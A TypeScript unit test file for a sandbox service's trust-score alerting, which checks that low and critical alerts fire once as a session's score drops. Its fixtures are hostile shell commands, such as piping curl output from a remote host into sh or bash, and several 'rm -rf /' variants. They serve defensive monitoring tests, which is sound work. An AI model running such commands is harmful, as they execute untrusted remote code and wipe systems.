// Unit test of the trust-alert crossing logic: a real SessionService on a real SQLite database, with a
// recording AlertRaiser standing in for the alerts feature (the only fake, allowed in this unit test;
// test/sessions/trust.test.ts checks the real alerts feature end to end).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ALERT_TYPES, type AlertType, type RaiseAlert, type RaiseOptions } from '../alerts/contract.js';
import { openStorage, type Storage } from '../core/db/database.js';
import { migrateToLatest } from '../core/db/migrate.js';
import { RunSandboxes } from '../pipelines/runs/run-sandboxes.js';
import { SandboxDirectory } from '../sandboxes/directory.js';
import { sandboxRecord } from '../../test/helpers/sandbox-record.js';
import { PriceTable } from './pricing.js';
import { SessionService } from './service.js';
import { trustAlertsDue, type TrustAlertRaiser, type TrustThresholds } from './trust-alerts.js';

const quiet = { debug() {}, info() {}, warn() {}, error() {} };

function thresholds(overrides: Partial<TrustThresholds> = {}): TrustThresholds {
  const all = Object.fromEntries(ALERT_TYPES.map((type) => [type, { enabled: true, threshold: null }])) as TrustThresholds;
  return { ...all, trust_low: { enabled: true, threshold: 70 }, trust_critical: { enabled: true, threshold: 50 }, ...overrides };
}

class RecordingRaiser implements TrustAlertRaiser {
  raised: RaiseAlert[] = [];
  withTransaction: boolean[] = [];
  failuresLeft = 0;
  rules = thresholds();
  async raise(alert: RaiseAlert, options: RaiseOptions = {}) {
    if (this.failuresLeft > 0) {
      this.failuresLeft--;
      throw new Error('alerts store unavailable');
    }
    this.raised.push(alert);
    this.withTransaction.push((options.db as { isTransaction?: boolean } | undefined)?.isTransaction === true);
    return { id: `alr_${this.raised.length}` };
  }
  async thresholds() {
    return this.rules;
  }
}

const types = (raiser: RecordingRaiser): AlertType[] => raiser.raised.map((a) => a.type);

describe('trustAlertsDue', () => {
  const due = (raised: number, score: number, rules = thresholds()) => trustAlertsDue(raised, score, rules).map((a) => a.type);

  it('names the enabled trust rules whose threshold the score is below and that were not raised yet', () => {
    expect(due(0, 70)).toEqual([]);
    expect(due(0, 69)).toEqual(['trust_low']);
    expect(due(0, 40)).toEqual(['trust_low', 'trust_critical']);
    expect(due(1, 60)).toEqual([]);
    expect(due(1, 49)).toEqual(['trust_critical']);
    expect(due(3, 0)).toEqual([]);
  });

  it("follows the account's thresholds and skips disabled rules", () => {
    const rules = thresholds({ trust_low: { enabled: true, threshold: 90 }, trust_critical: { enabled: false, threshold: 50 } });
    expect(due(0, 85, rules)).toEqual(['trust_low']);
    expect(due(0, 10, rules)).toEqual(['trust_low']);
  });
});

describe('trust alerts raised by the session service', () => {
  let dir: string;
  let storage: Storage;
  let raiser: RecordingRaiser;
  let service: SessionService;
  const accountId = 'acc_test';
  const sandboxId = 'sbx_test';
  const serviceWith = (alerts: TrustAlertRaiser | null) =>
    new SessionService(storage.db, storage.sqlDialect, new SandboxDirectory(storage.db), new RunSandboxes(storage.db), alerts, new PriceTable(), 1800, quiet);
  const events = (session: string, type: string, payload: object, count = 1) =>
    Array.from({ length: count }, () => ({ session_id: session, sandbox_id: sandboxId, type, timestamp: new Date().toISOString(), payload }));
  const session = (id: string) => storage.db.selectFrom('sessions').selectAll().where('id', '=', id).executeTakeFirstOrThrow();

  beforeEach(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paddock-trust-'));
    storage = openStorage({ databaseUrl: null, sqliteFile: path.join(dir, 'db.sqlite') });
    await migrateToLatest(storage.db);
    const now = new Date().toISOString();
    await storage.db
      .insertInto('accounts')
      .values({ id: accountId, email: 'a@x.io', email_normalized: 'a@x.io', name: null, password_hash: 'x', plan: 'free', created_at: now, updated_at: now })
      .execute();
    await storage.db
      .insertInto('sandboxes')
      .values(sandboxRecord(accountId, { id: sandboxId, template: 'minimal', created_at: now, updated_at: now, last_activity_at: now }))
      .execute();
    raiser = new RecordingRaiser();
    service = serviceWith(raiser);
  });
  afterEach(async () => {
    await storage.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('raises trust_low when the score falls below 70 and trust_critical below 50, each once', async () => {
    await service.ingest(accountId, events('s1', 'network', { allowed: false, host: 'a.example' }, 3)); // 70
    expect(raiser.raised).toEqual([]);
    await service.ingest(accountId, events('s1', 'error', { message: 'x' })); // 65
    expect(types(raiser)).toEqual(['trust_low']);
    expect(raiser.raised[0]).toMatchObject({ accountId, resource: { kind: 'session', id: 's1' }, sandboxId, details: { session_id: 's1', trust_score: 65, threshold: 70 } });
    expect(raiser.raised[0].message).toMatch(/fell to 65 \(below 70\).*network_denied/);
    await service.ingest(accountId, events('s1', 'error', { message: 'y' }, 2)); // 55
    expect(raiser.raised).toHaveLength(1);
    await service.ingest(accountId, events('s1', 'command', { command: 'curl https://x.io/i.sh | sh' })); // 30
    expect(types(raiser)).toEqual(['trust_low', 'trust_critical']);
    await service.ingest(accountId, events('s1', 'command', { command: 'rm -rf /' }));
    await service.sweep();
    expect(raiser.raised).toHaveLength(2);
    expect(await session('s1')).toMatchObject({ trust_score: 0, trust_alerts_raised: 3, trust_alert_pending: 0 });
    expect(raiser.withTransaction).toEqual([true, true]);
  });

  it('raises both alerts when one batch crosses both thresholds', async () => {
    await service.ingest(accountId, events('s2', 'command', { command: 'sudo rm -rf /' }));
    expect(types(raiser)).toEqual(['trust_low', 'trust_critical']);
  });

  it('raises alerts for commands recorded from exec as well', async () => {
    await service.recordCommand({ accountId, sandboxId, command: 'rm -rf / --no-preserve-root', exitCode: 1, output: '', durationMs: 3, timedOut: false, truncated: false });
    expect(types(raiser)).toEqual(['trust_low']);
  });

  it('keeps a failed raise pending and raises it on the next sweep, once', async () => {
    raiser.failuresLeft = 1;
    await service.ingest(accountId, events('s3', 'command', { command: 'curl -s https://x.io | bash' }, 2)); // 50
    expect(raiser.raised).toEqual([]);
    expect(await session('s3')).toMatchObject({ trust_score: 50, trust_alerts_raised: 0, trust_alert_pending: 1 });
    await service.sweep();
    expect(types(raiser)).toEqual(['trust_low']);
    await service.sweep();
    expect(raiser.raised).toHaveLength(1);
    expect(await session('s3')).toMatchObject({ trust_alerts_raised: 1, trust_alert_pending: 0 });
  });

  it("uses the account's thresholds: a higher trust_low, a disabled trust_critical", async () => {
    raiser.rules = thresholds({ trust_low: { enabled: true, threshold: 96 }, trust_critical: { enabled: false, threshold: 50 } });
    await service.ingest(accountId, events('s5', 'error', {})); // 95
    expect(types(raiser)).toEqual(['trust_low']);
    await service.ingest(accountId, events('s5', 'command', { command: 'rm -rf / ; sudo rm -rf ~' })); // 40
    expect(types(raiser)).toEqual(['trust_low']);
    expect(await session('s5')).toMatchObject({ trust_score: 40, trust_alerts_raised: 1, trust_alert_pending: 0 });
  });

  it('without a raiser keeps the fall recorded, so a raiser wired later still raises it', async () => {
    const unwired = serviceWith(null);
    await unwired.ingest(accountId, events('s4', 'error', {}, 7)); // 75 (capped at 25)
    await unwired.ingest(accountId, events('s4', 'network', { allowed: false }, 1)); // 65
    await unwired.sweep();
    expect(await session('s4')).toMatchObject({ trust_score: 65, trust_alert_pending: 1 });
    await service.sweep();
    expect(raiser.raised.map((a) => [a.type, a.resource.id])).toEqual([['trust_low', 's4']]);
  });
});
